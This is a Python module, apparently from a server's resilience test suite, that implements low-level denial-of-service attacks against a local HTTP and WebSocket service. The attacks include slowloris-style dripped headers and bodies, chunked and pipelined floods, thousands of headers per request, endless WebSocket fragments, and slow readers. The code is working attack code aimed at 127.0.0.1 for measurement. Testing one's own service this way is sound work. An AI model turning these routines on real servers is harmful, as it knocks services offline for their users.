"""Attacks below HTTP and WebSocket: bytes that cost little to send and much to take apart, or answers never read."""

from __future__ import annotations

import asyncio
import contextlib
import socket as sockets
import time
from collections.abc import Awaitable, Callable, Iterator

SOURCE = "127.0.0.2"
BATCH = 512
"""How many drips are sent before the attacker's own event loop has its turn."""

JSON_POST = b"POST /api/games HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
UPGRADE = (
    b"GET /api/work HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)
Attack = Callable[[str, float], Awaitable[int]]
"""Takes the server's address and the moment (of `time.monotonic`) to end; gives how many requests were made."""


def _frame(opcode: int, data: bytes) -> bytes:
    """A masked WebSocket frame of at most 125 bytes; the mask is zero."""
    return bytes([opcode, 0x80 | len(data), 0, 0, 0, 0]) + data


class _Wire(asyncio.Protocol):
    """A connection that writes as fast as the server reads, and throws away what it gets."""

    def __init__(self) -> None:
        self.lost = asyncio.Event()
        self.free = asyncio.Event()
        self.free.set()

    def connection_lost(self, _error: Exception | None) -> None:
        self.lost.set()
        self.free.set()

    def pause_writing(self) -> None:
        self.free.clear()

    def resume_writing(self) -> None:
        self.free.set()


def wire(connections: int, parts: Callable[[], Iterator[bytes]], *, reads: bool = True) -> Attack:
    """Hold this many connections and send `parts` on each, every part in a packet of its own if possible."""

    async def hold(port: int, end: float, sent: list[int]) -> None:
        loop = asyncio.get_running_loop()
        while time.monotonic() < end:
            with contextlib.suppress(OSError, TimeoutError):
                transport, wire = await loop.create_connection(_Wire, "127.0.0.1", port, local_addr=(SOURCE, 0))
                transport.get_extra_info("socket").setsockopt(sockets.IPPROTO_TCP, sockets.TCP_NODELAY, 1)
                if not reads:
                    transport.pause_reading()
                try:
                    for number, part in enumerate(parts()):
                        if transport.is_closing() or time.monotonic() > end:
                            break
                        transport.write(part)
                        sent[0] += 1
                        if not wire.free.is_set() or number % BATCH == BATCH - 1:
                            await asyncio.sleep(0)
                            await asyncio.wait_for(wire.free.wait(), max(0.01, end - time.monotonic()))
                    await asyncio.wait_for(wire.lost.wait(), max(0.01, end - time.monotonic()))
                finally:
                    transport.abort()
            await asyncio.sleep(0.01)

    async def attack(address: str, end: float) -> int:
        sent = [0]
        port = int(address.rpartition(":")[2])
        await asyncio.gather(*(hold(port, end, sent) for _ in range(connections)))
        return sent[0]

    return attack


def _chunks() -> Iterator[bytes]:
    yield JSON_POST + b"Transfer-Encoding: chunked\r\n\r\n"
    for _ in range(200):
        yield b"1\r\n \r\n" * 2_500


def _dripped_body() -> Iterator[bytes]:
    yield JSON_POST + b"Content-Length: 200000\r\n\r\n"
    for _ in range(199_999):
        yield b" "


def _dripped_headers() -> Iterator[bytes]:
    yield b"GET /api/games HTTP/1.1\r\nHost: 127.0.0.1\r\nX: "
    for _ in range(60_000):
        yield b"a"


def _many_headers() -> Iterator[bytes]:
    while True:
        yield b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n" + b"a:\r\n" * 15_000 + b"\r\n"


def _pipelined() -> Iterator[bytes]:
    while True:
        yield b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 500


def _fragments() -> Iterator[bytes]:
    yield UPGRADE
    yield _frame(0x01, b"{")
    while True:
        yield _frame(0x00, b" ") * 400


def _dripped_frame() -> Iterator[bytes]:
    yield UPGRADE
    yield bytes([0x81, 0xFF]) + (60_000).to_bytes(8, "big") + bytes(4)
    for _ in range(60_000):
        yield b" "


def _large_answers() -> Iterator[bytes]:
    for _ in range(400):
        yield b"GET /api/openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"


WIRE_ATTACKS: dict[str, Attack] = {
    "chunked bodies": wire(4, _chunks),
    "chunked bodies, 16 at once": wire(16, _chunks),
    "bodies in drips": wire(100, _dripped_body),
    "headers in drips": wire(100, _dripped_headers),
    "many headers": wire(16, _many_headers),
    "pipelined requests": wire(16, _pipelined),
    "socket fragments": wire(32, _fragments),
    "socket frames in drips": wire(100, _dripped_frame),
    "slow readers": wire(200, _large_answers, reads=False),
}
"""By the name that the table shows."""
